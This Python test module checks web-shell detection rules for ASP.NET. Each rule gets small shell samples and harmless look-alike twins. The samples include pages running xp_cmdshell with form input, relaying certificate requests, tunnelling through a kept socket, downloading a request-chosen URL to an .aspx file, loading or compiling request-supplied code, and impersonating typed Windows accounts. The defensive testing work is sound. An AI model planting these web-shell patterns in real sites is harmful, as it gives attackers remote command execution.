"""Siblings of first-sight misses: the shapes fixed for collections X3-X41, written the other ways ASP.NET
compiles them (issue 14, helper X44).

``bench/webfiles/siblings.py`` takes the code shape of each first-sight miss (24 seeds) and varies one axis at a
time - language, container, request source, sink spelling - each sibling with a twin whose request values are
literals (BENCHMARKS.md, "Siblings of every first-sight miss"). On the session-start rules (de1d26f) 156 of 1,151 siblings
were found by nothing and 9 of 972 twins were flagged; the rules changed after it, each held here by harmless pages in
the shapes the harness wrote and the twins beside them:

- a page's code-behind class (``CodeFile``/``Src``: ``class P : System.Web.UI.Page``, ``Inherits
  System.Web.UI.Page``) is server code to ``EXT_WEBSHELL_SQL_Server_OS_Command``,
  ``EXT_WEBSHELL_Certificate_Request_Relay`` and ``EXT_WEBSHELL_Kept_Socket_Relay`` (a code-behind file holds no
  directive or code block; the behaviour analysis reads it, but none of the three shapes is one of its sinks), and
  so is an ``IHttpModule`` class (``App_Code``) to the first two;
- the certificate relay also in Visual Basic (``CreateObject``) and JScript (``new ActiveXObject``), in ASP.NET
  code only: classic ASP's enrolment pages call ``Server.CreateObject`` on the same ProgID (test_unseen34);
- the kept socket relay fed from a request value (a form field, a header, base64 text), not only the raw body;
- a server control's posted text as the COM downloader's address or file (``EXT_WEBSHELL_COM_Download_To_File``), and
  two ``<input runat=server>`` values as the typed account (``EXT_WEBSHELL_Page_Acts_As_Typed_Windows_Account``, which
  took text boxes' ``.Text`` only);
- ``ProcessRequest(`` of every handler is no request read: ``EXT_WEBSHELL_COM_Download_To_File``,
  ``EXT_WEBSHELL_Assembly_Load_By_Reflection`` and ``EXT_WEBSHELL_Compiles_And_Runs_Named_Member`` flagged a
  handler that downloads a fixed URL to a fixed file, loads an assembly from a literal, or compiles a literal
  (the twins); and a web method that takes no parameter receives nothing, so the loader rule's web-service
  route (X41) wants a parameter.

Nothing is compiled or run by the tests: the commands, hosts, certificate requests and payloads are placeholders,
and none of the pages is a copy of a real shell.
"""

from __future__ import annotations

from .rule_tables import Page, RuleCase, rule_tables

_SQL = "EXT_WEBSHELL_SQL_Server_OS_Command"
_CERT = "EXT_WEBSHELL_Certificate_Request_Relay"
_KEPT = "EXT_WEBSHELL_Kept_Socket_Relay"
_COM = "EXT_WEBSHELL_COM_Download_To_File"
_REFLECTED = "EXT_WEBSHELL_Assembly_Load_By_Reflection"
_COMPILED = "EXT_WEBSHELL_Compiles_And_Runs_Named_Member"


def _cs_code_behind(
    usings: str, body: str, header: str = "public partial class Tools : System.Web.UI.Page"
) -> str:
    return (
        f"using System;\nusing System.Web;\n{usings}\n{header}\n{{\n"
        f"    protected void Page_Load(object sender, EventArgs e)\n    {{\n{body}    }}\n}}\n"
    )


def _vb_code_behind(imports: str, body: str) -> str:
    return (
        f"Imports System\nImports System.Web\n{imports}\nPartial Class Tools\n    Inherits System.Web.UI.Page\n"
        "    Protected Sub Page_Load(ByVal sender As Object, ByVal e As EventArgs) Handles Me.Load\n"
        f"{body}    End Sub\nEnd Class\n"
    )


_XP_CS = (
    '        var c = new SqlConnection("Server=.;Integrated Security=true");\n        c.Open();\n'
    '        new SqlCommand("exec master..xp_cmdshell \'" + Request.Form["q"] + "\'", c).ExecuteNonQuery();\n'
)

SQL_SHELLS: list[Page] = [
    ("cs-code-behind-xp-cmdshell", ".aspx.cs", _cs_code_behind("using System.Data.SqlClient;", _XP_CS)),
    (
        "cs-src-file-xp-cmdshell",
        ".cs",
        _cs_code_behind("using System.Data.SqlClient;", _XP_CS, "public class Tools : System.Web.UI.Page"),
    ),
    (
        "vb-code-behind-xp-cmdshell",
        ".aspx.vb",
        _vb_code_behind(
            "Imports System.Data.SqlClient",
            '        Dim c As New SqlConnection("Server=.;Integrated Security=true")\n        c.Open()\n'
            '        Dim k As New SqlCommand("EXEC xp_cmdshell \'" & Request.Form("q") & "\'", c)\n'
            "        k.ExecuteNonQuery()\n",
        ),
    ),
]

_MODULE_CS = (
    "using System;\nusing System.Web;\n{usings}\npublic class M : IHttpModule\n{{\n"
    "    public void Init(HttpApplication app) {{ app.BeginRequest += (s, e) => Run(((HttpApplication)s).Context); }}\n"
    "    void Run(HttpContext context)\n    {{\n{body}    }}\n    public void Dispose() {{ }}\n}}\n"
)

SQL_SHELLS.append(
    (
        "cs-app-code-module-xp-cmdshell",
        ".cs",
        _MODULE_CS.format(
            usings="using System.Data.SqlClient;", body=_XP_CS.replace("Request.", "context.Request.")
        ),
    )
)

SQL_ORDINARY: list[Page] = [
    (
        "cs-code-behind-ordinary-query",
        ".aspx.cs",
        _cs_code_behind(
            "using System.Data.SqlClient;",
            '        var c = new SqlConnection("Server=.;Integrated Security=true");\n        c.Open();\n'
            '        var k = new SqlCommand("select name from orders where id = @id", c);\n'
            '        k.Parameters.AddWithValue("@id", Request.QueryString["id"]);\n        k.ExecuteReader();\n',
        ),
    ),
    (
        "cs-app-code-module-logs-requests",
        ".cs",
        _MODULE_CS.format(
            usings="using System.Data.SqlClient;",
            body='        var c = new SqlConnection("Server=.;Integrated Security=true");\n        c.Open();\n'
            '        var k = new SqlCommand("insert into hits (path) values (@p)", c);\n'
            '        k.Parameters.AddWithValue("@p", context.Request.Path);\n        k.ExecuteNonQuery();\n',
        ),
    ),
    (
        "cs-code-behind-reads-xp-cmdshell-setting",
        ".aspx.cs",
        _cs_code_behind(
            "using System.Data.SqlClient;",
            '        var c = new SqlConnection("Server=.;Integrated Security=true");\n        c.Open();\n'
            "        var k = new SqlCommand(\"select value_in_use from sys.configurations where name = 'xp_cmdshell'\", c);\n"
            "        Status.Text = k.ExecuteScalar().ToString();\n",
        ),
    ),
    (
        "desktop-page-class-runs-xp-cmdshell",  # a WPF page of a DBA tool: no System.Web, not server code
        ".cs",
        "using System.Windows.Controls;\nusing System.Data.SqlClient;\n"
        "public partial class ToolsPage : Page\n{\n    void Run(SqlConnection c, string q)\n    {\n"
        '        new SqlCommand("exec master..xp_cmdshell \'" + q + "\'", c).ExecuteNonQuery();\n    }\n}\n',
    ),
]

_CERT_VB = (
    '<%@ Page Language="VB" %>\n<script runat="server">\nSub Page_Load(sender As Object, e As EventArgs)\n'
    '    Dim cr As Object = CreateObject("CertificateAuthority.Request")\n'
    '    cr.Submit(0, {csr}, "CertificateTemplate:User", {ca})\n    Response.Write(cr.GetCertificate(0))\n'
    "End Sub\n</script>\n"
)
_CERT_JS = (
    '<%@ Page Language="JScript" %>\n<script runat="server">\nfunction Page_Load(sender : Object, e : EventArgs) {\n'
    '    var cr = new ActiveXObject("CertificateAuthority.Request");\n'
    '    cr.Submit(0, {csr}, "CertificateTemplate:User", {ca});\n    Response.Write(cr.GetCertificate(0));\n}\n'
    "</script>\n"
)


def _cert(page: str, csr: str, ca: str) -> str:
    return page.replace("{csr}", csr).replace("{ca}", ca)


CERT_SHELLS: list[Page] = [
    ("vb-createobject-submits-form-csr", ".aspx", _cert(_CERT_VB, 'Request.Form("x")', 'Request.Form("ca")')),
    (
        "js-activexobject-submits-header-csr",
        ".aspx",
        _cert(_CERT_JS, 'Request.Headers["X-Token"]', 'Request.Form["ca"]'),
    ),
    (
        "cs-code-behind-progid-submit",
        ".aspx.cs",
        _cs_code_behind(
            "",
            '        dynamic cr = Activator.CreateInstance(Type.GetTypeFromProgID("CertificateAuthority.Request"));\n'
            '        cr.Submit(0, Request.Form["x"], "CertificateTemplate:User", Request.Form["ca"]);\n'
            "        Response.Write(cr.GetCertificate(0));\n",
        ),
    ),
]

CERT_SHELLS.append(
    (
        "vb-app-code-module-createobject-submit",
        ".vb",
        "Imports System\nImports System.Web\nPublic Class M\n    Implements IHttpModule\n"
        "    Public Sub Init(ByVal app As HttpApplication) Implements IHttpModule.Init\n"
        "        AddHandler app.BeginRequest, AddressOf OnBegin\n    End Sub\n"
        "    Private Sub OnBegin(ByVal sender As Object, ByVal e As EventArgs)\n"
        "        Dim context As HttpContext = CType(sender, HttpApplication).Context\n"
        '        Dim cr As Object = CreateObject("CertificateAuthority.Request")\n'
        '        cr.Submit(0, context.Request.Form("x"), "CertificateTemplate:User", context.Request.Form("ca"))\n'
        "        context.Response.Write(cr.GetCertificate(0))\n    End Sub\n"
        "    Public Sub Dispose() Implements IHttpModule.Dispose\n    End Sub\nEnd Class\n",
    )
)

CERT_ORDINARY: list[Page] = [
    ("vb-createobject-submits-fixed-request", ".aspx", _cert(_CERT_VB, '"MIIB"', '"ca01\\\\Issuing"')),
    (
        "vb-code-behind-reads-ca-configuration",
        ".aspx.vb",
        _vb_code_behind(
            "",
            '        Dim cfg As Object = CreateObject("CertificateAuthority.Config")\n'
            "        CaName.Text = Server.HtmlEncode(cfg.GetConfig(0))\n"
            '        If Request.Form("x") <> "" Then Response.Write("ok")\n',
        ),
    ),
    (
        "classic-asp-script-block-enrolment",  # classic ASP (certsrv's shape) in a server script block
        ".asp",
        '<script language="VBScript" runat="server">\nSub Enroll()\n'
        '    Set oReq = Server.CreateObject("CertificateAuthority.Request")\n'
        '    nDisp = oReq.Submit(0, Request.Form("CertRequest"), Request.Form("CertAttrib"), sCAConfig)\n'
        "End Sub\n</script>\n",
    ),
]

_CONNECT = (
    '    if (Request.QueryString["c"] == "connect") {{ Socket n = new Socket(AddressFamily.InterNetwork, '
    'SocketType.Stream, ProtocolType.Tcp); n.Connect("127.0.0.1", 22); Session["sock"] = n; }}\n'
    '    Socket s = (Socket)Session["sock"];\n    s.Send(Convert.FromBase64String({value}));\n'
    "    byte[] buf = new byte[4096];\n    int r = s.Receive(buf);\n"
    "    Response.Write(Convert.ToBase64String(buf, 0, r));\n"
)


def _kept_page(value: str, connect: str = _CONNECT) -> str:
    return (
        '<%@ Page Language="C#" %>\n<%@ Import Namespace="System.Net.Sockets" %>\n<script runat="server">\n'
        "void Page_Load(object sender, EventArgs e) {\n" + connect.format(value=value) + "}\n</script>\n"
    )


KEPT_SHELLS: list[Page] = [
    ("cs-kept-socket-fed-by-form-field", ".aspx", _kept_page('Request.Form["x"]')),
    ("cs-kept-socket-fed-by-header", ".aspx", _kept_page('HttpContext.Current.Request.Headers["X-Token"]')),
    (
        "vb-kept-socket-fed-by-query",
        ".aspx",
        '<%@ Page Language="VB" %>\n<%@ Import Namespace="System.Net.Sockets" %>\n<script runat="server">\n'
        "Sub Page_Load(sender As Object, e As EventArgs)\n"
        '    If Request.QueryString("c") = "connect" Then\n'
        "        Dim n As New Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp)\n"
        '        n.Connect("127.0.0.1", 22)\n        Session("sock") = n\n    End If\n'
        '    Dim s As Socket = CType(Session("sock"), Socket)\n    s.Send(Convert.FromBase64String(Request.Form("x")))\n'
        "    Dim buf(4095) As Byte\n    Dim r As Integer = s.Receive(buf)\n"
        "    Response.Write(Convert.ToBase64String(buf, 0, r))\nEnd Sub\n</script>\n",
    ),
    (
        "cs-code-behind-kept-socket-fed-by-body",
        ".aspx.cs",
        _cs_code_behind(
            "using System.IO;\nusing System.Net.Sockets;",
            _CONNECT.format(value="new StreamReader(Request.InputStream).ReadToEnd()"),
        ),
    ),
]

KEPT_ORDINARY: list[Page] = [
    # the twin: the socket kept and used, no request value anywhere
    (
        "cs-kept-socket-fixed-command",
        ".aspx",
        _kept_page('"AAAA"', _CONNECT.replace('Request.QueryString["c"]', '"connect"')),
    ),
    (
        "cs-mail-banner-per-request",  # a socket opened and closed within the request: nothing kept
        ".aspx",
        '<%@ Page Language="C#" %>\n<%@ Import Namespace="System.Net.Sockets" %>\n<script runat="server">\n'
        "void Page_Load(object sender, EventArgs e) {\n"
        "    var s = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp);\n"
        '    s.Connect(Request.Form["host"] == "backup" ? "mail2.example.invalid" : "mail.example.invalid", 25);\n'
        "    byte[] buf = new byte[512];\n    int r = s.Receive(buf);\n    s.Send(new byte[] { 81, 85, 73, 84, 13, 10 });\n"
        "    Response.Write(Server.HtmlEncode(System.Text.Encoding.ASCII.GetString(buf, 0, r)));\n    s.Close();\n"
        "}\n</script>\n",
    ),
]


def _handler(usings: str, body: str) -> str:
    return (
        f'<%@ WebHandler Language="C#" Class="Handler" %>\nusing System;\nusing System.Web;\n{usings}\n'
        "public class Handler : IHttpHandler {\npublic void ProcessRequest(HttpContext context) {\n"
        f"{body}}}\npublic bool IsReusable {{ get {{ return false; }} }}\n}}\n"
    )


_COM_BODY = (
    '    dynamic h = Activator.CreateInstance(Type.GetTypeFromProgID("Microsoft.XMLHTTP"));\n'
    '    h.open("GET", {url}, false);\n    h.send();\n'
    '    dynamic s = Activator.CreateInstance(Type.GetTypeFromProgID("ADODB.Stream"));\n'
    "    s.Type = 1;\n    s.Open();\n    s.Write(h.responseBody);\n"
    '    s.SaveToFile(context.Server.MapPath("~/n.aspx"), 2);\n'
)
_LOAD_BODY = (
    '    typeof(Assembly).GetMethod("Load", new Type[] {{ typeof(byte[]) }})'
    ".Invoke(null, new object[] {{ Convert.FromBase64String({value}) }});\n"
)
_COMPILE_BODY = (
    "    var r = new CSharpCodeProvider().CompileAssemblyFromSource(new CompilerParameters(), {code});\n"
    "    string t = {name}, m = {name};\n    object o = r.CompiledAssembly.CreateInstance(t);\n"
    "    context.Response.Write(o.GetType().GetMethod(m).Invoke(o, null));\n"
)
_COMPILE_USING = "using System.CodeDom.Compiler;\nusing Microsoft.CSharp;"

HANDLER_SHELLS: list[tuple[str, Page]] = [
    (
        _COM,
        (
            "handler-com-download-request-url",
            ".ashx",
            _handler("", _COM_BODY.format(url='context.Request["u"]')),
        ),
    ),
    (
        _REFLECTED,
        (
            "handler-reflected-load-of-request",
            ".ashx",
            _handler("using System.Reflection;", _LOAD_BODY.format(value='context.Request.Form["x"]')),
        ),
    ),
    (
        _COMPILED,
        (
            "handler-compiles-request-source",
            ".ashx",
            _handler(
                _COMPILE_USING,
                _COMPILE_BODY.format(
                    code='context.Request.QueryString["x"]', name='context.Request.QueryString["n"]'
                ),
            ),
        ),
    ),
]

HANDLER_ORDINARY: list[tuple[str, Page]] = [
    (
        _COM,
        (
            "handler-com-download-fixed-url-to-fixed-file",
            ".ashx",
            _handler("", _COM_BODY.format(url='"http://example.invalid/a.txt"')),
        ),
    ),
    (
        _REFLECTED,
        (
            "handler-reflected-load-of-literal",
            ".ashx",
            _handler("using System.Reflection;", _LOAD_BODY.format(value='"AAAA"')),
        ),
    ),
    (
        _REFLECTED,
        (
            "asmx-method-without-parameter-loads-literal",
            ".asmx",
            '<%@ WebService Language="C#" Class="Svc" %>\nusing System;\nusing System.Reflection;\n'
            "using System.Web.Services;\npublic class Svc : WebService {\n[WebMethod]\npublic string Run() {\n"
            + _LOAD_BODY.format(value='"AAAA"')
            + '    return "";\n}\n}\n',
        ),
    ),
    (
        _COMPILED,
        (
            "handler-compiles-literal-source",
            ".ashx",
            _handler(_COMPILE_USING, _COMPILE_BODY.format(code='"class T {}"', name='"T"')),
        ),
    ),
]

_COM_PAGE = (
    '<%@ Page Language="C#" %>\n<script runat="server">\nvoid Fetch_Click(object sender, EventArgs e) {\n'
    '    dynamic h = Activator.CreateInstance(Type.GetTypeFromProgID("MSXML2.ServerXMLHTTP"));\n'
    '    h.open("GET", {url}, false);\n    h.send();\n'
    '    dynamic s = Activator.CreateInstance(Type.GetTypeFromProgID("ADODB.Stream"));\n'
    "    s.Type = 1;\n    s.Open();\n    s.Write(h.responseBody);\n"
    '    s.SaveToFile(Server.MapPath("~/App_Data/feed.xml"), 2);\n    Note.Text = Server.HtmlEncode(Who.Text);\n}}\n'
    '</script>\n<form runat="server"><asp:TextBox ID="Url" runat="server" /><asp:TextBox ID="Who" runat="server" />\n'
    '<asp:Label ID="Note" runat="server" /></form>\n'
)
_LOGON_HTML = (
    '<%@ Page Language="VB" %>\n<%@ Import Namespace="System.IO" %>\n<%@ Import Namespace="System.Security.Principal" %>\n'
    '<script runat="server">\n    Declare Auto Function LogonUser Lib "advapi32.dll" (u As String, d As String, '
    "p As String, t As Integer, pr As Integer, ByRef h As IntPtr) As Boolean\n"
    "    Sub Go(sender As Object, e As EventArgs)\n        Dim h As IntPtr\n"
    '        If LogonUser({user}, ".", {pwd}, 9, 0, h) Then\n'
    "            Using c As WindowsImpersonationContext = New WindowsIdentity(h).Impersonate()\n"
    '                For Each f As String In Directory.GetFiles({folder})\n                    Response.Write(f & "<br/>")\n'
    "                Next\n            End Using\n        End If\n    End Sub\n</script>\n"
)

CONTROL_SHELLS: list[tuple[str, Page]] = [
    (_COM, ("cs-com-download-of-a-text-box-address", ".aspx", _COM_PAGE.replace("{url}", "Url.Text"))),
    (
        "EXT_WEBSHELL_Page_Acts_As_Typed_Windows_Account",
        (
            "vb-logon-with-html-inputs-lists-a-folder",
            ".aspx",
            _LOGON_HTML.replace("{user}", "U.Value")
            .replace("{pwd}", "P.Value")
            .replace("{folder}", "Dir.Value")
            + '<form runat="server"><input id="U" runat="server" /><input id="P" type="password" runat="server" />\n'
            '<input id="Dir" runat="server" /></form>\n',
        ),
    ),
]

CONTROL_ORDINARY: list[tuple[str, Page]] = [
    # a fixed feed saved while a text box only names the reader
    (
        _COM,
        (
            "cs-com-download-fixed-feed-beside-a-text-box",
            ".aspx",
            _COM_PAGE.replace("{url}", '"https://example.invalid/f.xml"'),
        ),
    ),
    (
        "EXT_WEBSHELL_Page_Acts_As_Typed_Windows_Account",
        (
            "vb-logon-with-configured-account-lists-its-share",  # a service account from settings: no input
            ".aspx",
            _LOGON_HTML.replace("{user}", 'Settings("user").Value')
            .replace("{pwd}", 'Settings("pwd").Value')
            .replace("{folder}", 'Settings("share").Value'),
        ),
    ),
]

CASES: list[RuleCase] = [
    (_SQL, SQL_SHELLS, SQL_ORDINARY),
    (_CERT, CERT_SHELLS, CERT_ORDINARY),
    (_KEPT, KEPT_SHELLS, KEPT_ORDINARY),
    *[
        (rule, [p for r, p in HANDLER_SHELLS if r == rule], [p for r, p in HANDLER_ORDINARY if r == rule])
        for rule in (_COM, _REFLECTED, _COMPILED)
    ],
    *[
        (rule, [p for r, p in CONTROL_SHELLS if r == rule], [p for r, p in CONTROL_ORDINARY if r == rule])
        for rule in (_COM, "EXT_WEBSHELL_Page_Acts_As_Typed_Windows_Account")
    ],
]

(
    test_shell_is_found,
    test_ordinary_page_is_not_flagged,
    test_rule_needs_a_server_page,
) = rule_tables(CASES)
